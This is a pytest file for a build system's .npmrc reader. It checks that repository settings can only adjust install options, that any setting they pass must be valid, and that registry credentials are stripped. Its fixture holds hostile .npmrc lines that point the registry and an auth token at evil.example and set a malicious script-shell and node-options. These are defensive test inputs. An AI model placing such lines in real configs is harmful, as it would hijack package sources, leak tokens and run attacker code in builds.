"""Settings of npm: the worker's, and those of a repository."""

import json

import pytest

from orchestrator.build.functions.npm.settings import Registries, read_npmrc
from orchestrator.errors import ConfigurationError

_HOSTILE = """
; a comment
registry=https://evil.example/
@acme:registry = https://evil.example/
//evil.example/:_authToken=${NPM_TOKEN}
script-shell=/bin/evil
node-options=--require ./harm.js
git=./harm
https-proxy=http://evil.example
legacy-peer-deps=true
install_strategy=nested
save-exact=true
"""


def test_only_what_shapes_the_tree_is_taken_from_a_repository() -> None:
    """Nothing that says where packages come from, or what is run; and no secret is told."""
    settings = read_npmrc(_HOSTILE, "code/.npmrc")
    assert settings.variables == {"npm_config_install_strategy": "nested", "npm_config_legacy_peer_deps": "true"}
    (warning,) = settings.warning("code/.npmrc")
    assert warning == (
        "code/.npmrc sets registry, @acme:registry, //evil.example/:_authToken, script-shell, node-options, git, "
        "https-proxy, which builds ignore: the registry, its credentials and the programs that npm starts are those of "
        "the build machine."
    )


def test_a_setting_that_is_taken_must_be_valid() -> None:
    """It becomes a variable."""
    with pytest.raises(ConfigurationError, match=r"code/\.npmrc: legacy-peer-deps = '\$\{X\}' is not valid; valid are"):
        read_npmrc("legacy-peer-deps=${X}", "code/.npmrc")


def test_the_worker_s_registries_are_known_without_their_credentials() -> None:
    """The unit's npm must look under the same addresses in the cache."""
    config = {
        "registry": "https://user:secret@npm.example/all/",
        "@acme:registry": "https://acme.example/",
        "cache": "x",
    }
    registries = Registries.of(json.dumps(config))
    assert registries.hosts >= {"npm.example", "acme.example", "registry.npmjs.org"}
    assert registries.variables == {
        "npm_config_registry": "https://npm.example/all/",
        "npm_config_@acme:registry": "https://acme.example/",
    }
